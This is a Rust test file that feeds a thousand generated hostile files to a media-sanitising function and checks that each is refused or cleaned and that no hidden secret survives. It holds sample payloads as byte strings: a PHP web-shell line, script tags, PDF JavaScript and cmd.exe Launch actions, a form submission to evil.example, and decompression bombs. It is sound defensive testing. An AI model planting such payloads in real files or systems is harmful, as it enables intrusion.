//! A thousand hostile files, the same each time: every one is refused or cleaned, none takes long, and nothing of what was hidden in one survives.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic, clippy::cast_possible_truncation, missing_docs)]

use domain::files::{BYTES_MAX, FileKind, FileRefused};
use image::{ExtendedColorType, ImageEncoder, ImageFormat, Rgb, RgbImage};
use media::clean;
use std::collections::BTreeMap;
use std::io::{Cursor, Write};
use std::time::{Duration, Instant};

const FILES: usize = 1000;
/// No file takes longer, on a busy machine and without optimisation.
const PATIENCE: Duration = Duration::from_secs(20);
/// What is hidden in files and may never come out.
const SECRET: &[u8] = b"GEHEIM-49.8728N-8.6512E";

/// Numbers that are the same in every run.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, most: usize) -> usize {
        (self.next() % most.max(1) as u64) as usize
    }

    fn bytes(&mut self, count: usize) -> Vec<u8> {
        (0..count).map(|_| self.next() as u8).collect()
    }
}

fn picture(dice: &mut Dice) -> RgbImage {
    let (width, height, shade) = (16 + dice.below(60) as u32, 16 + dice.below(60) as u32, dice.next() as u8);
    RgbImage::from_fn(width, height, |x, y| Rgb([shade, (x * 3) as u8, (y * 5) as u8]))
}

fn written(dice: &mut Dice, format: ImageFormat) -> Vec<u8> {
    let mut bytes = vec![];
    picture(dice).write_to(&mut Cursor::new(&mut bytes), format).unwrap();
    bytes
}

fn jpeg(dice: &mut Dice) -> Vec<u8> {
    written(dice, ImageFormat::Jpeg)
}

/// A JPEG with a segment put behind its first two bytes.
fn with_segment(photo: &[u8], marker: u8, inside: &[u8]) -> Vec<u8> {
    let length = u16::try_from(inside.len() + 2).unwrap().to_be_bytes();
    [&photo[..2], &[0xff, marker], &length, inside, &photo[2..]].concat()
}

fn exif(dice: &mut Dice) -> Vec<u8> {
    let orientation = 1 + dice.below(12) as u8;
    let tiff = [&b"Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0"[..], &[orientation, 0, 0, 0], &[0; 4], SECRET].concat();
    let photo = jpeg(dice);
    with_segment(&with_segment(&photo, 0xfe, SECRET), 0xe1, &tiff)
}

fn polyglot(dice: &mut Dice) -> Vec<u8> {
    let mut bytes = match dice.below(3) {
        0 => jpeg(dice),
        1 => written(dice, ImageFormat::Png),
        _ => written(dice, ImageFormat::WebP),
    };
    let rider: &[u8] = match dice.below(4) {
        0 => b"<script>alert(1)</script>",
        1 => b"PK\x03\x04\x14\0\0\0evil.exe",
        2 => b"%PDF-1.4\n1 0 obj<</S/JavaScript>>",
        _ => b"<?php system($_GET[0]); ?>",
    };
    bytes.extend_from_slice(rider);
    bytes.extend_from_slice(SECRET);
    bytes
}

fn other_type(dice: &mut Dice) -> Vec<u8> {
    let starts: [&[u8]; 14] = [
        b"GIF89a\x01\0\x01\0",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>",
        b"<!doctype html><script>",
        b"MZ\x90\0",
        b"\x7fELF",
        b"PK\x03\x04",
        b"II*\0\x08\0\0\0",
        b"BM\x36\0\0\0",
        b"\0\0\0\x18ftypheic\0\0\0\0heicmif1",
        b"\0\0\0\x20ftypavif",
        b"#!/bin/sh\n",
        b"{\\rtf1",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x1f\x8b\x08\0",
    ];
    let start = starts[dice.below(starts.len())];
    let rest = dice.below(3000);
    [start.to_vec(), dice.bytes(rest)].concat()
}

fn cut(dice: &mut Dice) -> Vec<u8> {
    let mut bytes = if dice.below(2) == 0 { jpeg(dice) } else { written(dice, ImageFormat::Png) };
    let length = dice.below(bytes.len());
    bytes.truncate(length);
    bytes
}

/// Some bytes of a good file changed.
fn spoiled(dice: &mut Dice) -> Vec<u8> {
    let mut bytes = match dice.below(4) {
        0 => jpeg(dice),
        1 => written(dice, ImageFormat::Png),
        2 => written(dice, ImageFormat::WebP),
        _ => pdf(b"", b"(Schatten) Tj"),
    };
    for _ in 0..=dice.below(20) {
        let at = dice.below(bytes.len());
        bytes[at] = dice.next() as u8;
    }
    bytes
}

/// A header that promises more than anybody has memory for.
fn huge(dice: &mut Dice) -> Vec<u8> {
    let side = [20_001u32, 60_000, 0x7fff_ffff, 8_000][dice.below(4)];
    if dice.below(2) == 0 {
        let mut photo = jpeg(dice);
        let at = photo.windows(2).position(|two| two == [0xff, 0xc0]).unwrap();
        photo[at + 5..at + 9].copy_from_slice(&[0xff, 0xff, 0xff, 0xff]);
        return photo;
    }
    let mut bytes = written(dice, ImageFormat::Png);
    bytes[16..20].copy_from_slice(&side.to_be_bytes());
    bytes[20..24].copy_from_slice(&side.to_be_bytes());
    let sum = crc(&bytes[12..29]);
    bytes[29..33].copy_from_slice(&sum.to_be_bytes());
    bytes
}

fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0u32, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 })
    })
}

/// One page; `catalog` goes into its catalog.
fn pdf(catalog: &[u8], content: &[u8]) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut places = vec![];
    let stream = [format!("<</Length {}>>stream\n", content.len()).as_bytes(), content, b"\nendstream"].concat();
    let objects: [Vec<u8>; 4] = [
        [b"<</Type/Catalog/Pages 2 0 R", catalog, b">>"].concat(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        b"<</Type/Page/Parent 2 0 R/Contents 4 0 R/MediaBox[0 0 9 9]>>".to_vec(),
        stream,
    ];
    for (n, object) in objects.iter().enumerate() {
        places.push(bytes.len());
        writeln!(bytes, "{} 0 obj", n + 1).unwrap();
        bytes.extend_from_slice(object);
        bytes.extend_from_slice(b"\nendobj\n");
    }
    let start = bytes.len();
    bytes.extend_from_slice(b"xref\n0 5\n0000000000 65535 f \n");
    for place in places {
        writeln!(bytes, "{place:010} 00000 n ").unwrap();
    }
    let info = String::from_utf8_lossy(SECRET);
    write!(bytes, "trailer<</Size 5/Root 1 0 R/Info<</Author({info})>>>>\nstartxref\n{start}\n%%EOF").unwrap();
    bytes
}

fn active_pdf(dice: &mut Dice) -> Vec<u8> {
    let parts: [&[u8]; 10] = [
        b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/X<</S/JavaScript>>",
        b"/Names<</JavaScript<</Names[(a)5 0 R]>>>>",
        b"/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>",
        b"/X<</S/Launch/F(cmd.exe)>>",
        b"/X<</S/#4caunch/F(cmd.exe)>>",
        b"/AcroForm<</XFA(x)>>",
        b"/X[[[<</Subtype/RichMedia>>]]]",
        b"/X<</S/SubmitForm/F(http://evil.example)>>",
        b"/X<</S/GoToR/F(other.pdf)>>",
        b"/X<</J#53(x)>>",
    ];
    pdf(parts[dice.below(parts.len())], b"")
}

/// A picture of one colour: kilobytes that become megabytes.
fn bomb(dice: &mut Dice) -> Vec<u8> {
    let side = 1500 + dice.below(1500) as u32;
    let row = vec![0u8; (side * side) as usize];
    let mut bytes = vec![];
    image::codecs::png::PngEncoder::new(&mut bytes).write_image(&row, side, side, ExtendedColorType::L8).unwrap();
    bytes
}

fn hostile(n: usize, dice: &mut Dice) -> (&'static str, Vec<u8>) {
    match n % 100 {
        0..=19 => ("exif", exif(dice)),
        20..=39 => ("polyglot", polyglot(dice)),
        40..=54 => ("other type", other_type(dice)),
        55..=64 => ("cut", cut(dice)),
        65..=79 => ("spoiled", spoiled(dice)),
        80..=86 => ("huge", huge(dice)),
        87..=96 => ("active pdf", active_pdf(dice)),
        97 => ("bomb", bomb(dice)),
        98 => ("noise", {
            let length = dice.below(4000);
            dice.bytes(length)
        }),
        _ => ("deep pdf", pdf(&[b"/X".to_vec(), vec![b'['; 20_000]].concat(), b"")),
    }
}

#[test]
fn a_thousand_hostile_files_are_refused_or_cleaned() {
    let mut dice = Dice(0x5eed_cafe);
    let mut results: BTreeMap<(&str, String), usize> = BTreeMap::new();
    for n in 0..FILES {
        let (kind, bytes) = hostile(n, &mut dice);
        let begin = Instant::now();
        let result = clean(&bytes);
        assert!(begin.elapsed() < PATIENCE, "{n} {kind}: {:?}", begin.elapsed());
        let verdict = match &result {
            Ok(file) => {
                check(n, kind, file);
                "cleaned".to_owned()
            }
            Err(why) => format!("{why:?}"),
        };
        let fits = match kind {
            "exif" | "polyglot" => result.is_ok(),
            "other type" => matches!(result, Err(FileRefused::UnknownType | FileRefused::Heic)),
            "active pdf" => result == Err(FileRefused::Active),
            "huge" | "deep pdf" => result.is_err(),
            _ => true,
        };
        assert!(fits, "{n} {kind}: {verdict}");
        *results.entry((kind, verdict)).or_default() += 1;
    }
    assert!(results.len() > 12, "{results:?}");
}

/// Nothing hidden came out, and what came out is what it says.
fn check(n: usize, kind: &str, file: &media::Cleaned) {
    for bytes in std::iter::once(&file.bytes).chain(&file.thumbnail) {
        assert!(memchr::memmem::find(bytes, SECRET).is_none(), "{n} {kind}: the secret is still there");
        assert!(bytes.len() <= BYTES_MAX, "{n} {kind}");
        if file.kind == FileKind::Photo {
            assert!(bytes.starts_with(&[0xff, 0xd8]) && bytes.ends_with(&[0xff, 0xd9]), "{n} {kind}: nothing in front and nothing behind");
            assert!(memchr::memmem::find(bytes, b"Exif").is_none(), "{n} {kind}");
        }
    }
    match file.kind {
        FileKind::Photo => assert!(file.width.max(file.height) <= 2048 && image::load_from_memory(&file.bytes).is_ok(), "{n} {kind}"),
        FileKind::Pdf => assert!(file.bytes.starts_with(b"%PDF-"), "{n} {kind}"),
    }
}

#[test]
fn a_camera_that_was_held_sideways_is_turned() {
    let photo = RgbImage::from_fn(40, 20, |x, _| if x < 20 { Rgb([250, 0, 0]) } else { Rgb([0, 0, 250]) });
    let mut bytes = vec![];
    photo.write_to(&mut Cursor::new(&mut bytes), ImageFormat::Jpeg).unwrap();
    let tiff = [&b"Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x06\0\0\0"[..], &[0; 4]].concat();
    let done = clean(&with_segment(&bytes, 0xe1, &tiff)).unwrap();
    let upright = image::load_from_memory(&done.bytes).unwrap().into_rgb8();
    assert_eq!((done.width, done.height), (20, 40));
    assert!(upright.get_pixel(10, 5).0[0] > 200 && upright.get_pixel(10, 35).0[2] > 200, "red is above");
}

#[test]
fn what_is_too_large_is_not_even_read() {
    assert_eq!(clean(&vec![0xff; BYTES_MAX + 1]), Err(FileRefused::TooLarge));
    assert_eq!(clean(b""), Err(FileRefused::Empty));
}
